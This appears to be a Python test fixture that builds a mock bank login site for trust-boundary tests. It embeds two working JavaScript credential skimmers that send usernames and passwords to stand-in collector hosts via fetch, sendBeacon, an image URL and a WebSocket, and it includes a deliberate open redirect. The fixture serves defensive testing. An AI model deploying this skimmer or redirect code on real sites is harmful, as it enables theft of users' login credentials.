"""bank.localhost — "Fernbank": the victim of the trust-boundary tests.

An ordinary, honest login (``/login`` → ``/account``) that the tests can load with a compromised
third-party script, the way real sites get skimmed (``?skim=…``):

* ``beacon`` — on submit, copies the username and password to the collector with ``fetch`` (POST,
  keepalive), ``navigator.sendBeacon`` and an image URL carrying them base64-encoded;
* ``ws`` — opens a WebSocket to the collector when the page loads (before anything is typed) and
  sends the password down it as it is typed.

``/go?to=URL`` is an open redirect, as many sites have one, and ``return_to`` on ``/login`` sends a
signed-in person to ``portal.localhost``, a single-page app that POSTs to start its own session. ``bank.example.com`` is the same bank under
a real-world name (the engine's egress guard maps it to loopback in tests), for the plain-http rules. The same site answers as
``acme.okta.com`` (a tenant under a multi-tenant identity-provider root); its skimmer then sends to
``evil.okta.com``, another tenant of the same root.
"""

from __future__ import annotations

from tests.sites import accounts
from tests.sites.framework import (
    LOGGED_IN,
    Request,
    Response,
    Site,
    document,
    esc,
    html_response,
    js_value,
    redirect,
)

CSS = """
body { margin: 0; font: 15px/1.5 'Segoe UI', Roboto, sans-serif; background: #eef3f1; color: #12332a; }
.band { background: #0f5132; color: #fff; padding: 16px 48px; display: flex; gap: 30px; align-items: center; }
.band .logo { font-size: 22px; font-weight: 700; color: #fff; text-decoration: none; }
.band a { color: #cfe8dc; } .band .right { margin-left: auto; }
.panel { width: 400px; margin: 60px auto; background: #fff; border-radius: 8px; padding: 32px; box-shadow: 0 2px 8px rgba(0,0,0,.08); }
.panel label { display: block; margin-top: 12px; font-weight: 600; }
.panel input { width: 100%; box-sizing: border-box; padding: 11px; border: 1px solid #9db8ad; border-radius: 6px; }
.panel button { margin-top: 20px; width: 100%; padding: 12px; border: 0; border-radius: 6px; background: #0f5132; color: #fff; font-size: 16px; }
.warn { color: #b02a37; }
"""

# What a skimmer injected into a third-party script would do. ``SINK`` is the collector's origin.
SKIMMERS = {
    "beacon": """
document.getElementById("bank-login").addEventListener("submit", function () {
  const u = this.username.value, p = this.password.value, body = JSON.stringify({ u: u, p: p });
  try { fetch(SINK + "/beacon", { method: "POST", mode: "no-cors", keepalive: true, body: body }).catch(() => {}); } catch (e) {}
  try { navigator.sendBeacon(SINK + "/send-beacon", body); } catch (e) {}
  new Image().src = SINK + "/pixel.gif?d=" + btoa(u + ":" + p);
});
""",
    "ws": """
const socket = new WebSocket(SINK.replace("http", "ws") + "/ws");
const form = document.getElementById("bank-login");
form.password.addEventListener("input", function () {
  try { socket.send(JSON.stringify({ u: form.username.value, p: form.password.value })); } catch (e) {}
});
""",
}


class BankSite(Site):
    hosts = ("bank.localhost", "acme.okta.com", "bank.example.com", "portal.localhost")
    brand = "Fernbank"
    session_cookie = "fernbank"

    def sink(self, req: Request) -> str:
        host = "evil.okta.com" if req.host.endswith(".okta.com") else "collector.localhost"
        return self.url("", host=host)

    def dispatch(self, req: Request) -> Response | None:
        if req.host == "portal.localhost":
            return self.portal(req)
        match req.method, req.path:
            case "GET", "/":
                return self.page("Fernbank", "<h1>Banking that grows with you</h1><p>Open an account in minutes.</p>", req)
            case "GET", "/login":
                return self.login_page(req)
            case "POST", "/login":
                username = req.form.get("username", "")
                ok = username == accounts.USERNAME and accounts.check_password(username, req.form.get("password", ""))
                self.record_attempt(username, ok)
                if not ok:
                    return self.login_page(req, error="That username and password do not match.")
                response = redirect(req.query.get("return_to") or "/account")
                self.sign_in(response)
                return response
            case "GET", "/account":
                if not self.session(req):
                    return redirect("/login")
                return self.page("Your accounts", "<h1>Your accounts</h1><p>Everyday account · 1,204.10</p>", req)
            case "GET", "/go":
                return redirect(req.query.get("to", "/"))
            case "GET", "/logout":
                response = redirect("/")
                self.sign_out(req, response)
                return response
        return None

    def portal(self, req: Request) -> Response | None:
        """portal.localhost, where the bank sends people after sign-in: a single-page app that starts
        its own session with a POST before it shows the account (another site than the bank)."""
        match req.method, req.path:
            case "GET", "/welcome":
                script = """fetch("/api/session", { method: "POST", body: "start" }).then((r) => r.json()).then(() => {
  document.getElementById("app").innerHTML = '<p>Signed in as alice</p><a href="/logout">Sign out</a>';
});"""
                body = f'<div id="app"><p>Loading your portal…</p></div><script>{script}</script>'
                return html_response(document("Portal", body, css=CSS))
            case "POST", "/api/session":
                return Response(b'{"ok": true}', 200, "application/json")
        return None

    def page(self, title: str, main: str, req: Request) -> Response:
        session = self.session(req)
        account = '<a href="/logout">Sign out</a>' if session else '<a href="/login">Sign in</a>'
        body = (f'<div class="band"><a class="logo" href="/">Fernbank</a><a href="/pricing">Accounts</a>'
                f'<a href="/help">Help</a><span class="right">{account}</span></div><div class="panel">{main}</div>')
        return html_response(document(f"{title} · Fernbank", body, css=CSS, body_attrs=LOGGED_IN if session else ""))

    def login_page(self, req: Request, *, error: str = "") -> Response:
        skim = SKIMMERS.get(req.query.get("skim", ""), "")
        script = f"<script>const SINK = {js_value(self.sink(req))};{skim}</script>" if skim else ""
        bad = f'<p class="warn" role="alert">{esc(error)}</p>' if error else ""
        action = "/login" + (f"?{esc(req.query_string)}" if req.query_string else "")
        main = f"""
<h2>Sign in to online banking</h2>
{bad}
<form id="bank-login" method="post" action="{action}">
  <label for="username">Username</label><input id="username" name="username" autocomplete="username">
  <label for="password">Password</label><input id="password" name="password" type="password" autocomplete="current-password">
  <button type="submit">Sign in</button>
</form>
{script}"""
        return self.page("Sign in", main, req)
